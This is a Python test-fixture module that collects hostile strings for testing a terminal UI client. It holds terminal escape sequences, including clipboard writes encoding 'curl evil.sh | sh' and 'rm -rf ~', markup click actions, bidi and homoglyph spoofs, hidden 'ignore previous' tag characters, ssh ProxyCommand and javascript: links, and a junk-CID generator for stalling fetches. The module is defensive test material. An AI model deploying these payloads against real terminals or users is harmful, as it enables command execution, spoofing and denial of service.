"""A corpus of hostile content: every string a stranger could write that once broke a terminal or a TUI
(``ARTICLES``: bodies built to freeze the article reader, kept apart because they are large).

Each entry has a name (used as a test id) and the text. ``FORBIDDEN`` lists what must never reach a
terminal from content: ESC, BEL, other C0 controls except newline/tab, DEL and the C1 range.
"""

from __future__ import annotations

import re

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

CONTROL: dict[str, str] = {
    "c0_all": "".join(chr(c) for c in range(0x20) if c not in (0x0A,)) + "after-c0",
    "del": "before\x7fafter",
    "c1_all": "".join(chr(c) for c in range(0x80, 0xA0)) + "after-c1",
    "nul_in_middle": "left\x00right",
    "backspace_overwrite": "safe\x08\x08\x08\x08EVIL",
    "carriage_return_overwrite": "innocent text\rEVIL TEXT OVERWRITES",
}

SEQUENCES: dict[str, str] = {
    "osc0_title_bel": ESC + "]0;PWNED-TITLE" + BEL + "osc title",
    "osc2_title_st": ESC + "]2;PWNED-TITLE" + ST + "osc title st",
    "osc52_clipboard": ESC + "]52;c;" + "Y3VybCBldmlsLnNoIHwgc2g=" + BEL + "clipboard",
    "osc52_primary_st": ESC + "]52;p;cm0gLXJmIH4=" + ST + "primary",
    "osc8_hyperlink": ESC
    + "]8;;https://evil.example/"
    + ST
    + "https://bank.example"
    + ESC
    + "]8;;"
    + ST,
    "csi_cursor_home_clear": ESC + "[H" + ESC + "[2J" + ESC + "[3J" + "screen cleared",
    "csi_cursor_moves": ESC + "[10A" + ESC + "[5C" + ESC + "[1;1H" + "moved",
    "csi_sgr_hidden": ESC + "[8m" + "hidden text" + ESC + "[0m",
    "csi_private_alt_screen": ESC + "[?1049h" + ESC + "[?25l" + "alt screen, no cursor",
    "csi_device_status_report": ESC + "[6n" + ESC + "[c" + ESC + "[>c" + "reports",
    "csi_window_ops": ESC + "[21t" + ESC + "[20t" + ESC + "[8;1;1t" + "window ops",
    "dcs_decrqss": ESC + "P$qm" + ST + "dcs",
    "dcs_tmux_passthrough": ESC + "Ptmux;" + ESC + ESC + "]0;TMUXPWN" + BEL + ST + "passthrough",
    "apc_kitty": ESC + "_Gf=100;AAAA" + ST + "apc",
    "pm_sos": ESC + "^private" + ST + ESC + "Xsos" + ST + "pm/sos",
    "c1_csi_8bit": "\x9b2J\x9bH" + "8-bit csi",
    "c1_osc_8bit": "\x9d0;PWNED8" + "\x9c" + "8-bit osc",
    "c1_dcs_8bit": "\x90$qm\x9c" + "8-bit dcs",
    "esc_reset_ris": ESC + "c" + "full reset",
    "esc_keypad_charset": ESC + "(0lqqk" + ESC + "(B" + ESC + "=" + "charset",
    "half_sequence": ESC + "[",
    "lone_esc_end": "text" + ESC,
}

MARKUP: dict[str, str] = {
    "textual_click_quit": "[@click=app.quit]click me[/]",
    "textual_click_bell_call": "[@click=app.bell()]ring[/]",
    "textual_click_screen": "[@click=screen.dismiss(True)]ok[/]",
    "textual_click_args": "[@click=app.push_screen('wallet')]wallet[/]",
    "textual_at_space": "[ @click = app.quit ]x[ / ]",
    "textual_close_all": "[/]",
    "textual_close_unbalanced": "text [/b] more [/i]",
    "textual_unclosed_bracket": "[b",
    "textual_open_only": "[b][i][u]never closed",
    "textual_link": "[link=https://evil.example]bank[/link]",
    "textual_link_quoted": "[link='file:///etc/passwd']file[/]",
    "textual_variable": "$var ${var} $app.title $name",
    "textual_on_red": "[on red]background[/]",
    "textual_reverse_style": "[reverse blink bold italic strike]style[/]",
    "textual_escaped": r"\[b]escaped\[/b] \\[b]double",
    "textual_nested_vars": "[$var]x[/$var]",
    "textual_backslash_end": "ends with a backslash \\",
    "rich_emoji_codes": ":warning: :skull: :red_circle:",
    "rich_style_hex": "[#ff0000 on #00ff00]rgb[/]",
    "rich_style_link_meta": "[link=javascript:alert(1)]js[/link]",
    "many_brackets": "[" * 500 + "]" * 500,
}

UNICODE: dict[str, str] = {
    "bidi_rlo_address": "send to 0x\u202e1234567890abcdef\u202c please",
    "bidi_trojan_source": "access = \u202e\u2066 // check if admin\u2069 \u2066 isAdmin",
    "bidi_isolates": "\u2066\u2067\u2068nested\u2069\u2069\u2069",
    "bidi_marks": "\u200e\u200f\u061cmarks",
    "zero_width": "ze\u200bro\u200cwi\u200ddth\u2060\ufeff",
    "soft_hyphen_mongolian": "soft\u00adhy\u180ephen",
    "tag_characters": "hidden" + "".join(chr(0xE0000 + ord(c)) for c in "ignore previous"),
    "lookalike_cyrillic": "\u0430pple.com Ad\u0430 \u0412italik",
    "fullwidth": "\uff21\uff47\uff4f\uff52\uff41 \uff10\uff58",
    "line_para_sep": "one\u2028two\u2029three\x85four",
    "combining_flood": "Z" + "\u0336\u0337\u0338\u0301\u0302" * 400,
    "combining_alone": "\u0301" * 1000,
    "emoji_zwj": "family \U0001f468\u200d\U0001f469\u200d\U0001f467 ok",
    "wide_cjk": "\u6f22\u5b57" * 300,
    "surrogate_escape": "bad\udcffsurrogate",
    "private_use": "\ue000\uf8ff\U000f0000",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "replacement": "\ufffd\ufffd",
}

SIZE: dict[str, str] = {
    "enormous_line": "A" * 200_000,
    "many_lines": "line\n" * 20_000,
    "tabs": "\t" * 5000 + "tabbed",
    "deep_markdown_quotes": "> " * 2000 + "deep quote",
    "deep_markdown_lists": "".join("  " * i + "- item\n" for i in range(300)),
    "deep_markdown_emphasis": "*" * 3000 + "x" + "*" * 3000,
    "markdown_table_wide": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n",
    "markdown_html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
}

LINKS: dict[str, str] = {
    "javascript_link": "[click](javascript:alert(document.cookie))",
    "file_link": "[passwords](file:///etc/passwd)",
    "data_link": "[img](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "ssh_proxycommand": "[ssh](ssh://-oProxyCommand=touch${IFS}/tmp/pwned/x)",
    "leading_dash_url": "[open](-oProxyCommand=calc)",
    "url_with_space": "[ok](https://good.example evil)",
    "url_with_control": "[ok](https://good.example/\x1b]0;T\x07)",
    "punycode_lookalike": "[bank](https://xn--pple-43d.com/login)",
}

IMPOSTOR: dict[str, str] = {
    "name_short_address": "0x134C\u2026D532",
    "name_short_address_dots": "0x134C...D532",
    "name_full_address": "0x70997970C51812dc3A010C7d01b50e0d17dc79C8",
    "name_badge_and_address": "Ada Quill \u2713 verified 0x7099\u202679C8",
    "name_heavy_check_emoji": "Ada \u2714\ufe0f",
    "name_ballot_check": "\u2611 Ada",
    "name_check_button": "Ada \u2705",
    "name_light_check": "Ada \U0001f5f8",
    "name_square_root_check": "Ada \u221a",
    "name_word_verified_cyrillic": "Ada v\u0435rifi\u0435d",
    "name_fullwidth_address": "\uff10\uff58\uff17\uff10\uff19\uff19\u2026",
    "name_cyrillic_x_address": "0\u04457099\u202679C8",
    "name_hangul_filler": "\u3164",
    "name_hangul_fillers_mixed": "\u115f\u1160\uffa0\u3164",
    "name_braille_blank": "\u2800\u2800\u2800",
    "name_ideographic_spaces": "\u3000\u2003\u00a0",
    "name_padding_then_address": "Ada" + "\u3164" * 30 + "0x7099\u202679C8",
}
"""Profile names that pass for an address, a verification badge or nothing."""

ALL: dict[str, str] = {**CONTROL, **SEQUENCES, **MARKUP, **UNICODE, **SIZE, **LINKS, **IMPOSTOR}
"""Every hostile string, by name."""

SHORT: dict[str, str] = {
    k: v for k, v in ALL.items() if len(v.encode("utf-8", "surrogatepass")) <= 3000
}
"""Entries small enough to be a post (the post schema caps text at a few KiB)."""

LINK_TARGETS: list[str] = [
    "javascript:alert(1)",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "-oProxyCommand=touch /tmp/x",
    "ssh://-oProxyCommand=calc/",
    "https://good.example evil",
    "https://good.example/\x1b]0;T\x07",
    "vbscript:msgbox(1)",
    "  javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "https://\u202eexample.com",
]
"""Link targets a Markdown document or profile may carry; none may be opened or shown raw."""

INVALID_UTF8: list[bytes] = [
    b"\xff\xfe\xfd",
    b"\xc0\xaf",  # overlong "/"
    b"\xed\xa0\x80",  # encoded surrogate
    b"abc\x80def",
    b"\xf4\x90\x80\x80",  # above U+10FFFF
    b"\x1b]0;T\x07\xff",
]

MALFORMED_JSON: list[bytes] = [
    b"",
    b"{",
    b"null",
    b"[]",
    b"42",
    b'"string"',
    b'{"v": 1}',
    b'{"v": "1", "type": "post", "text": 5}',
    b'{"v": 1, "type": "post", "text": ["a"]}',
    b'{"v": 1, "type": "post", "text": {"$ref": "x"}}',
    b'{"v": 99, "type": "post", "text": "future"}',
    b'{"v": 1, "type": "profile", "name": null, "links": "notalist"}',
    b'{"v": 1, "type": "post", "text": "x", "created_at": "yesterday"}',
    b'{"v": 1, "type": "post", "text": "x", "created_at": 1e400}',
    b'{"v": 1, "type": "post", "text": "x", "tags": [1, 2, {}]}',
    b"[" * 100_000 + b"]" * 100_000,
    b'{"a":' * 5000 + b"1" + b"}" * 5000,
    b'{"v": 1, "type": "post", "text": "\\ud800"}',
    b'{"v": 1, "v": 2, "type": "post", "text": "dup"}',
    b'{"v": 1, "type": "article", "name": "t", "description": "d", "body": "not-a-cid"}',
    b"\xef\xbb\xbf{}",
    b'{"v": NaN}',
]

_FORBIDDEN_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def forbidden(text: str) -> list[str]:
    """Control characters in ``text`` that must never reach a terminal (newline and tab allowed)."""
    return _FORBIDDEN_RE.findall(text)


def forbidden_bytes(data: bytes) -> bool:
    """Whether raw output bytes carry ESC, BEL or any other C0 control except \\n, \\r, \\t."""
    return any(b < 0x20 and b not in (0x0A, 0x0D, 0x09) for b in data) or 0x7F in data


MALFORMED_JSON += [
    b'{"version": 1, "type": "agora.post", "text": 5}',
    b'{"version": 1, "type": "agora.post", "text": ["a"]}',
    b'{"version": true, "type": "agora.post", "text": "bool version"}',
    b'{"version": 99, "type": "agora.post", "text": "future"}',
    b'{"version": 1, "type": "agora.post", "text": "x", "created_at": -1}',
    b'{"version": 1, "type": "agora.post", "text": "x", "created_at": 1e400}',
    b'{"version": 1, "type": "agora.post", "text": "x", "mentions": ["0x\\u202e"]}',
    b'{"version": 1, "type": "agora.post", "text": "x", "tags": [1, {}]}',
    b'{"version": 1, "type": "agora.profile", "name": null}',
    b'{"version": 1, "type": "agora.profile", "name": "n", "links": "notalist"}',
    b'{"version": 1, "type": "agora.profile", "name": "n", "links": [1, 2]}',
    b'{"name": "t", "description": 7, "body": "bafkrei"}',
    b'{"name": "t", "body": "javascript:alert(1)"}',
    b'{"name": "t", "body": "-oProxyCommand=x", "agora": {"type": "agora.article"}}',
]


def junk_cids(count: int, *, zero_bytes: int = 2, seed: int = 0) -> list[str]:
    """CIDs that no gateway has, whose digests start with ``zero_bytes`` zero bytes.

    Posting one costs a stranger one cheap transaction; each costs us a gateway timeout. The
    leading zeros make them sort before any real CID (``bafkreiaaaa…``), so a fetch queue
    ordered by CID would try them all first.
    """
    import hashlib

    from tui.core.content.cid import cid_from_digest

    out = []
    for n in range(count):
        tail = hashlib.sha256(f"junk-{seed}-{n}".encode()).digest()[zero_bytes:]
        out.append(cid_from_digest(b"\0" * zero_bytes + tail))
    return out


def _table(rows: int, columns: int) -> str:
    head = "|" + "|".join(f"h{c}" for c in range(columns)) + "|\n|" + "-|" * columns + "\n"
    return head + "".join(
        "|" + "|".join(f"c{r}.{c}" for c in range(columns)) + "|\n" for r in range(rows)
    )


ARTICLES: dict[str, str] = {
    "quadratic_lexer_code": "```csharp\n" + "a b\n" * 590 + "```\n",
    "quadratic_lexer_code_long": "```csharp\n" + "a b\n" * 3000 + "```\n",
    "unlabelled_code_guessed": "```\n" + "a b\n" * 590 + "```\n",
    "indented_code_guessed": "".join("    a b\n" for _ in range(590)),
    "huge_table": _table(300, 40),
    "table_at_full_size": _table(2700, 12),
    "many_list_items": "".join(f"- item {i}\n" for i in range(3000)),
    "list_items_at_full_size": "- a\n" * 65_536,
    "many_headings": "".join(f"## heading {i}\n" for i in range(3000)),
    "headings_in_one_quote": "".join(f"> # heading {i}\n" for i in range(3000)),
    "deep_nesting": "".join("  " * i + "- item\n" for i in range(300)) + "> " * 900 + "x\n",
    "one_enormous_line": "word " * 52_000,
    "many_blocks": "".join(f"paragraph {i}\n\n" for i in range(20_000)),
}
"""Article bodies built to freeze a Markdown renderer (quadratic lexers, widget floods)."""


def worst_within_caps() -> str:
    """An article that nearly reaches every Markdown cap at once without crossing one: the most
    the reader renders as Markdown (long linked paragraphs, headings, a list, a wide table,
    highlighted code, nesting)."""
    words = " ".join(f"word{i} *em* [link {i}](https://example.org/{i})" for i in range(60))
    paras = [f"Paragraph {i}: {words}"[:1_990] for i in range(16)]
    heads = [f"## Heading {i}" for i in range(16)]
    items = "\n".join(
        f"- item {i} with `code` and [a link](https://example.org/i{i})" for i in range(11)
    )
    table = "| " + " | ".join(f"head {c}" for c in range(8)) + " |\n|" + "---|" * 8 + "\n"
    table += "\n".join(
        "| " + " | ".join(f"[c{r}.{c}](https://e.org)" for c in range(8)) + " |" for r in range(4)
    )
    code = "\n".join(
        f"def function_{i}(argument):\n    return argument * {i}  # a note on it" for i in range(70)
    )[:4_000]
    fences = [f"```python\n{code}\n```" for _ in range(3)]
    quote = "> " * 4 + "a quote four levels deep"
    blocks = [b for pair in zip(heads, paras, strict=False) for b in pair]
    return "\n\n".join([*blocks[:12], items, *blocks[12:24], table, *fences, quote, *blocks[24:]])
